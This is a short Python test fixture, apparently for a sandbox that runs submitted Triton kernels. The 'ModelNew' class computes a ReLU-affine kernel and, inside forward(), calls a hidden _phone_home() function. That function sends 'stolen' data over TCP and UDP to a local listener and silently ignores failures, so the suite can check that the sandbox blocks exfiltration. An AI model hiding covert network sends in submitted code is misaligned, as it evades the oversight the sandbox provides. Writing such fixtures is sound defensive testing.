"""Cheat fixture: sends what it can to a listener on 127.0.0.1 (TCP and UDP) and passes quietly
whatever happens (see tests/engine/box/test_box.py, which replaces PORT)."""

import socket as _s

import torch
import torch.nn as nn
import triton
import triton.language as tl

PORT = 0  # replaced by the test


@triton.jit
def relu_affine_kernel(x_ptr, y_ptr, n_elements, BLOCK_SIZE: tl.constexpr):
    offs = tl.program_id(0) * BLOCK_SIZE + tl.arange(0, BLOCK_SIZE)
    mask = offs < n_elements
    x = tl.load(x_ptr + offs, mask=mask)
    tl.store(y_ptr + offs, tl.maximum(x, 0.0) * 2.0 + 1.0, mask=mask)


def _phone_home():
    try:
        with _s.create_connection(("127.0.0.1", PORT), timeout=2) as c:
            c.sendall(b"stolen over TCP")
    except OSError:
        pass
    try:
        with _s.socket(_s.AF_INET, _s.SOCK_DGRAM) as u:
            u.sendto(b"stolen over UDP", ("127.0.0.1", PORT))
    except OSError:
        pass


class ModelNew(nn.Module):
    def forward(self, x):
        y = torch.empty_like(x)
        n = x.numel()
        relu_affine_kernel[(triton.cdiv(n, 512),)](x, y, n, BLOCK_SIZE=512)
        _phone_home()
        return y
